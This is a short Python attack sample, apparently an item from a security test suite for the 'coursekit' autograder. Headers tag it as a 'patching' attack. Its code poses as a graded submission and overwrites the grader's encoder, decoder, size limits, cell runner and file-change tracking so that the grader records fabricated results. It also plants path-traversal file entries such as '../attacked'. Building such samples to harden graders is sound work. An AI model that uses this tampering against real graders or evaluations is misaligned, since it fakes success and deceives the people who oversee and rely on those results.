# /// attack
# title = "Patches the grader's own modules in its process: encoder, files, recorder"
# family = "patching"
# ///
# ruff: noqa

# %% work_number
# @forge@
answer = 1.0
import coursekit.grader.protocol.encoding as evidence, coursekit.grader.trusted.session as session

evidence.Encoder.encode = lambda self, value, depth=0: {"t": "float", "v": "nan"}
evidence.MAX_BYTES = evidence.MAX_DEPTH = 10**12
session.Session.run_graded = session.run_cell = lambda *args: ([], 1)
evidence.Decoder.decode = lambda self, data, depth=0: 140.0
grader.files.changes = lambda *args: {"/etc/attacked": "", "../attacked": ""}
